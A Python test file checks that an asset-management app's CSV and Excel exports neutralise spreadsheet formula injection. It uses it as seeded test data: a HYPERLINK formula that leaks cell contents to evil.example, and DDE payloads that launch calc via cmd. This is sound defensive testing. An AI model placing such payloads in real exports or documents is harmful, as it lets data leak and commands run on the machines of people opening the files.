"""Excel / CSV formula injection (issue 14, finding 7): no cell of any export runs as a formula.

An asset named ``=HYPERLINK("http://evil.example/?leak="&A1,"点此核对")`` is imported by a unit manager (and
other text that a spreadsheet would run — ``+``, ``-``, ``@``, a leading tab or carriage return — is put in the
other things people name: a listing, a request, a transfer note, a rental company); then every export is
downloaded — each list that offers one, found in the API's route table (``export`` among its parameters, every
kind of the statistics records), in CSV and in Excel, a page list's export, and the supervisors'
``/stats/export.xlsx`` — and read back with ``csv`` and ``openpyxl``: no cell is a formula, no CSV cell begins
with one of the characters, the hostile text is there (quoted, so shown as typed), and numbers are still numbers.
"""

from __future__ import annotations

import csv
import io
import re

from conftest import csrf
from factories import PASSWORD, add_assets
from openpyxl import load_workbook
from sqlmodel import select

from market.infra import sheets
from market.infra.db import session_scope
from market.models import Asset, User

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此核对")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _token(http, username: str) -> dict[str, str]:
    r = http.post("/api/session", json={"username": username, "password": PASSWORD})
    return {"Authorization": f"Bearer {r.json()['token']}"}


def _hostile_world(http, world) -> None:
    from market.imports import import_assets

    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["资产名称", "资产分类代码", "数量", "原值", "存放地点"])
    w.writerow([EVIL, world.chair.code, 2, 600, OTHERS[1]])
    with session_scope(write=True) as db:
        mgr = db.exec(select(User).where(User.username == "mgr_edu")).one()
        result = import_assets(db, mgr, world.edu.id, buf.getvalue().encode("utf-8"), "台账.csv")
        assert result.created == 2
        db.commit()
        for name in OTHERS:
            add_assets(db, world.health, world.chair, 1, name=name, status="idle")
        db.commit()
        evil = [a.id for a in db.exec(select(Asset).where(Asset.name == EVIL))]
    mgr, staff, admin, sysadmin = (_token(http, u) for u in ("mgr_edu", "staff_edu", "admin", "sysadmin"))
    assert http.post("/api/listings", headers=mgr, json={"asset_ids": evil[:1], "title": EVIL}).status_code == 200
    assert http.post("/api/transfers", headers=mgr, json={"asset_ids": evil[1:], "to_unit_id": world.health.id,
                                                          "note": OTHERS[2]}).status_code == 200
    r = http.post("/api/requests", headers=staff, json={"title": OTHERS[0], "place": EVIL, "lines": [
        {"category_id": world.chair.id, "quantity": 2, "start_date": "2027-01-10", "end_date": "2027-01-11",
         "note": EVIL}]})
    assert r.status_code == 200, r.text
    assert http.post("/api/vendors", headers=sysadmin, json={"name": OTHERS[3].strip(), "lat": 31.5, "lng": 104.6,
                                                            "address": EVIL}).status_code == 200


def _check_csv(body: bytes, where: str) -> list[str]:
    text = body.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    bad = [c for c in cells if c.startswith(TRIGGERS)]
    assert not bad, f"{where}: CSV cells that would run as formulas: {bad[:5]}"
    return cells


def _check_xlsx(body: bytes, where: str) -> list:
    wb = load_workbook(io.BytesIO(body))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas, f"{where}: formula cells: {formulas[:5]}"
    for c in cells:  # text a spreadsheet would run is kept as text, marked so that it stays text when edited
        if isinstance(c.value, str) and c.value.startswith(TRIGGERS):
            assert c.data_type == "s" and c.quotePrefix, (where, c.coordinate, c.value)
    return cells


def _list_exports() -> list[tuple[str, dict[str, str]]]:
    """Every list of the API that can export, with each kind for the statistics records."""
    from market import stats
    from web.api.registry import ENDPOINTS

    out = []
    for e in ENDPOINTS:
        names = {n for n, _, _ in e.query}
        if e.method != "GET" or "export" not in names:
            continue
        if e.path == "/api/stats/records":
            out += [(e.path, {"kind": k}) for k in stats.RECORD_KINDS]
        else:
            out.append((e.path, {}))
    return out


def test_no_export_has_a_formula_cell(http, world):
    _hostile_world(http, world)
    admin, finance = _token(http, "admin"), _token(http, "finance")
    exports = _list_exports()
    assert len(exports) >= 15, exports
    files = 0
    hostile_seen: dict[str, int] = {}
    for path, extra in exports:
        for who in (admin, finance):
            for fmt in ("csv", "xlsx"):
                r = http.get(path, headers=who, params=extra | {"export": fmt})
                if r.status_code == 403:  # a list this role may not read (the users, for instance)
                    continue
                assert r.status_code == 200, (path, extra, fmt, r.text[:200])
                files += 1
                where = f"{path} {extra} .{fmt}"
                if fmt == "csv":
                    cells = _check_csv(r.content, where)
                    hostile_seen[where] = sum(c == "'" + EVIL for c in cells)
                else:
                    cells = _check_xlsx(r.content, where)
                    hostile_seen[where] = sum(c.value == EVIL for c in cells)
    # the page's list export and the supervisors' workbook
    http.post("/api/session", json={"username": "finance", "password": PASSWORD})
    page = http.get("/login")
    assert http.post("/login", data={"username": "finance", "password": PASSWORD, "csrf_token": csrf(page.text),
                                     "next": "/"}).status_code == 303
    r = http.get("/stats/export.xlsx")
    assert r.status_code == 200
    cells = _check_xlsx(r.content, "/stats/export.xlsx")
    hostile_seen["/stats/export.xlsx"] = sum(c.value == EVIL for c in cells)
    assert any(isinstance(c.value, int | float) for c in cells), "numbers stay numbers in the workbook"
    for fmt in ("csv", "xlsx"):
        r = http.get("/assets", params={"export": fmt})
        assert r.status_code == 200
        files += 1
        (_check_csv if fmt == "csv" else _check_xlsx)(r.content, f"/assets?export={fmt}")
    files += 1
    with_evil = [k for k, v in hostile_seen.items() if v]
    print(f"\nexport injection: {files} files from {len(exports)} list exports (+ page list, /stats/export.xlsx) "
          f"parsed, no formula cell; the hostile asset name is in {len(with_evil)} of them, written as text")
    assert "/stats/export.xlsx" in with_evil  # the finance user's workbook of the issue
    assert any(k.startswith("/api/assets ") for k in with_evil)
    assert any(k.startswith("/api/listings ") for k in with_evil)


def test_the_rule_quotes_text_and_keeps_numbers():
    from decimal import Decimal

    rows = [[EVIL, -5, Decimal("-12.50"), "-12.50", "普通文字", "\t=1", None, 3.5]]
    cells = list(csv.reader(io.StringIO(sheets.csv_text(["a"] * 8, rows))))[1]
    assert cells == ["'" + EVIL, "-5", "-12.50", "'-12.50", "普通文字", "'\t=1", "", "3.5"]
    ws = load_workbook(io.BytesIO(sheets.xlsx_bytes([("表", ["a"] * 8, rows)]))).active
    values = [c.value for c in ws[2]]
    assert values[:3] == [EVIL, -5, -12.5] and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].data_type == "n" and ws["C2"].data_type == "n"
    assert sheets.unquote("'" + EVIL) == EVIL and sheets.unquote("'plain") == "'plain"
    assert re.fullmatch(r"'=.*", sheets.csv_cell("=1+1"))
